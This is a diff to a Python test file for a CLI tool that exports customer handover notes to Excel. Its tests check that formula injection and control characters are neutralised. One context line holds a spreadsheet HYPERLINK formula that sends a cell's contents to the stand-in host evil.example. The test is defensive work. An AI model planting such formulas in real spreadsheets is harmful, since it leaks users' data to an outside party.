@@ -198,3 +198,14 @@ def test_a_receipt_read_back_stays_text_in_the_next_sheet(run, hostile, tmp_path
     assert "<f>" not in sheet_xml(path)
     texts = [c.value for row in load_workbook(path).active.iter_rows() for c in row]
     assert '=HYPERLINK("http://evil.example/?"&A1,"已处理")' in texts
+
+
+def test_control_characters_typed_into_a_problem_do_not_break_the_sheet(run, demo, tmp_path):
+    from openpyxl import load_workbook
+
+    run(["--agent", "倩", "handover", "add", "-c", "回访", "--buyer", "tb1", "-p",
+         "回电\x08\x1b给买家"], check=0)
+    path = tmp_path / "sheet.xlsx"
+    run(["--agent", "倩", "handover", "export", "-o", path], check=0)
+    texts = [c.value for row in load_workbook(path).active.iter_rows() for c in row]
+    assert "回电给买家" in texts
